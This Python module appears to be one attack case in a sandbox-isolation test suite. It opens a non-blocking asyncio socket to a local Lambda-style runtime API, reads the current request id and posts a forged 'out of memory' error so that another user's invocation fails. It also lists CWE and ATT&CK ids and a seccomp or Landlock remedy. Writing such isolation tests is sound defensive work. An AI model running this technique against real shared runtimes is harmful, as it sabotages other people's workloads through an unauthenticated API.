# SPDX-License-Identifier: MIT
"""Goal:  the request that is being served fails, by somebody else's word.
Means: POST .../ID/error. The id of the current request stands in many places of a worker, such as
       its trace header and its log; here it comes with the next event. asyncio makes the
       connection: its sockets do not block, and a filter that waits for a blocking connect waits
       in vain.
"""

import asyncio
import re

from attack import DONE, attempting, denied

RUNTIME = "/2018-06-01/runtime/invocation"
ERROR = '{"errorMessage": "out of memory", "errorType": "Runtime.ExitError"}'


async def ask(port, method, path, body=""):
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(f"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                 f"Content-Length: {len(body)}\r\n\r\n{body}".encode())
    reply = await asyncio.wait_for(reader.read(65536), 3)
    writer.close()
    return reply.decode(errors="replace")


async def report(port):
    event = await ask(port, "GET", f"{RUNTIME}/next")
    request = re.search(r"Request-Id: (\S+)", event, re.IGNORECASE)
    await ask(port, "POST", f"{RUNTIME}/{request[1] if request else 0}/error", ERROR)


def run(brief):
    attempting()
    try:
        asyncio.run(report(brief.api))
    except (OSError, asyncio.TimeoutError) as why:
        return denied("127.0.0.1", why)
    return DONE


ATTACK = {
    "effect": "another student's request is reported as failed",
    "means": "POST .../ID/error, over asyncio's sockets",
    "oracle": "api:error",
    "id": "LAPI-03",
    "attack_id": "T1499, CWE-306",
    "remedy": "seccomp without socket, or Landlock without connect_tcp",
    "refs": ["AWS Lambda runtime API, Invocation error"],
    "run": run,
}
